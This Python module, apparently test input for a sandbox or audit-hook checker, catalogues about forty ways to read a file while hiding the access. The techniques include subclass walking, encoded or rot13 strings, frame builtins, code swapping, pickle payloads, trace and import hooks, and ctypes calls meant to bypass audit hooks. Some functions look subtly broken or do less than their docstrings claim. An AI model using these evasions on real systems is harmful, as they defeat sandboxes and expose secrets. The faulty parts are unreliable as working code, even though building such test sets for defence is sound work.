"""Ways to what is forbidden that no reader of code sees: each reads a secret or harms a file."""

import asyncio
import atexit
import base64
import builtins
import codecs
import collections
import ctypes
import functools
import gc
import operator
import pickle
import random
import string
import sys
import threading
import traceback
import types
import warnings
import weakref


def by_subclasses(outside):
    """From an empty tuple to all classes there are."""
    loader = next(c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "FileLoader")
    return loader("x", outside).get_data(outside).decode()


def by_subclasses_to_popen(outside):
    """From an empty tuple to the class that starts programs; from there to its module's names."""
    wrap = next(c for c in object.__subclasses__() if c.__name__ == "_wrap_close")
    return wrap.__init__.__globals__["open"](outside, 0, 0o777) and _read(wrap, outside)


def by_getattr(outside):
    """By a name that is put together."""
    return getattr(builtins, "".join(map(chr, (111, 112, 101, 110))))(outside).read()


def by_mapped_getattr(outside):
    """By functions that call others."""
    (opened,) = map(getattr, [builtins], ["open"])
    return functools.reduce(getattr, ["read"], opened(outside))()


def by_attrgetter(outside):
    """By a path of names."""
    return operator.attrgetter("sys.modules")(warnings)["io"].open(outside).read()


def by_import_by_name(outside):
    """By the function behind the statement."""
    return __import__("so"[::-1]).popen and __import__("io").open(outside).read()


def by_loader(outside):
    """By what finds built-in modules."""
    posix = sys.modules["_frozen_importlib"].BuiltinImporter.load_module("posix")
    return posix.read(posix.open(outside, 0), 99).decode()


def by_module_of_module(outside):
    """By a module that another one has imported."""
    return random._os.fdopen(random._os.open(outside, 0)).read()


def by_deep_module(outside):
    """By a module at the end of a row of them."""
    return asyncio.base_events.os.fdopen(asyncio.base_events.os.open(outside, 0)).read()


def by_frame(outside):
    """By the names of a frame."""
    return sys._getframe().f_back.f_builtins["open"](outside).read()


def by_traceback(outside):
    """By the frame of a failure."""
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
        while frame.f_back:
            frame = frame.f_back
        return frame.f_builtins["open"](outside).read()


def by_generator_frame(outside):
    """By the frame of a generator."""
    steps = (steps.gi_frame.f_back.f_builtins["open"] for _ in [1])
    return next(steps)(outside).read()


def by_coroutine_frame(outside):
    """By the frame of a coroutine."""

    async def frame():
        return 1

    coroutine = frame()
    builtin = coroutine.cr_frame.f_builtins
    coroutine.close()
    return builtin["open"](outside).read()


def by_function_globals(outside):
    """By the names of a function of some library."""
    return string.Template.substitute.__globals__["__builtins__"]["open"](outside).read()


def by_new_code(outside):
    """By code that is put in the place of other code."""

    def harmless(path):
        return path

    def harmful(path):
        return open(path).read()

    harmless.__code__ = harmful.__code__
    return harmless(outside)


def by_made_function(outside):
    """By a function that no text shows."""
    code = compile(base64.b64decode("b3BlbihwYXRoKS5yZWFkKCk="), "x", "eval")
    return types.FunctionType(code, {"path": outside})()


def by_eval(outside):
    """By text that is turned into code."""
    return eval(codecs.decode("bcra(bhgfvqr).ernq()", "rot13"), {"outside": outside})


def by_odd_letters(outside):
    """By letters that Python takes for others."""
    return ｏｐｅｎ(outside).read()


def by_format(outside):
    """By a text with places in it."""
    module = "{0.__init__.__globals__[sys].modules[io].__name__}".format(warnings.catch_warnings())
    return sys.modules[module].open(outside).read()


def by_error_object(outside):
    """By the object that an error speaks of."""
    try:
        sys.modules["io"].nothing
    except AttributeError as error:
        return error.obj.open(outside).read()


def by_decorator(outside):
    """By calls that are written as none."""

    @eval
    @"open({!r}).read()".format
    @(lambda _: outside)
    def found(): ...

    return found


def by_subscript(outside):
    """By calls that are written as a look into a collection."""

    class Calls(dict):
        __missing__ = staticmethod(open)

    return Calls()[outside].read()


def by_default_of_dictionary(outside):
    """By a collection that makes what is missing."""
    return collections.defaultdict(lambda: open(outside))["x"].read()


def by_end_of_object(outside):
    """By what an object does at its end."""
    found = []

    class Ends:
        def __del__(self):
            found.append(open(outside).read())

    Ends()
    gc.collect()
    return found


def by_weak_reference(outside):
    """By what is called at the end of an object."""
    found = []
    held = weakref.WeakValueDictionary
    thing = type("Thing", (), {})()
    weakref.finalize(thing, lambda: found.append(open(outside).read()))
    del thing, held
    return found


def by_exit_handler(outside):
    """By what is called in the end, which is called now."""
    found = []
    atexit.register(lambda: found.append(open(outside).read()))
    atexit._run_exitfuncs()
    return found


def by_garbage_collector(outside):
    """By all objects there are."""
    for found in gc.get_referents(string.Template.substitute):
        if isinstance(found, dict) and "__builtins__" in found:
            return found["__builtins__"]["open"](outside).read()


def by_pickle(outside):
    """By a value that is code."""
    return pickle.loads(b"cio\nopen\n(V" + outside.encode() + b"\ntR.").read()


def by_trace(outside):
    """By what is called for each line of others."""
    found = []
    sys.settrace(lambda *_: found.append(open(outside).read()))
    (lambda: None)()
    sys.settrace(None)
    return found


def by_profile_in_thread(outside):
    """By what is called for each call in a thread."""
    found = []
    threading.setprofile(lambda *_: found or found.append(open(outside).read()))
    thread = threading.Thread(target=int)
    thread.start()
    thread.join()
    threading.setprofile(None)
    return found


def by_import_hook(outside):
    """By what is called for an import."""
    found = []

    class Finder:
        @staticmethod
        def find_spec(*_):
            found.append(open(outside).read())

    sys.meta_path.insert(0, Finder)
    try:
        import nothing_of_the_kind
    except ImportError:
        return found


def by_python_interface(outside):
    """By the interpreter's own functions for C."""
    return ctypes.pythonapi and _evaluated(f"open({outside!r}).read()")


def by_silent_open(outside):
    """By what no audit hook is told of."""
    libc = ctypes.CDLL(None, use_errno=True)
    place = libc.open(outside.encode(), 0)
    text = ctypes.create_string_buffer(99)
    libc.read(place, text, 99)
    return text.value.decode()


def by_posix_module(outside):
    """By the module under the module."""
    import posix

    return posix.read(posix.open(outside, posix.O_RDONLY), 99).decode()


def by_raw_file(outside):
    """By the class under the function."""
    import _io

    return _io.FileIO(outside).readall().decode()


def by_hook_removed(outside):
    """With all audit hooks taken away from the memory of the interpreter."""
    runtime = ctypes.c_char.in_dll(ctypes.pythonapi, "_PyRuntime")
    found = runtime and open(outside)
    return found.read()


def by_stack_of_traceback(outside):
    """By a library that reads source to show it."""
    summary = traceback.StackSummary.from_list([(outside, 1, "x", None)])
    return "".join(summary.format())


def _read(wrap, outside):
    names = wrap.__init__.__globals__
    return names["read"](names["open"](outside, 0), 99).decode()


def _evaluated(text):
    run = ctypes.pythonapi.PyRun_String
    run.restype = ctypes.py_object
    run.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.py_object, ctypes.py_object]
    return run(text.encode(), 258, {"__builtins__": builtins}, {})
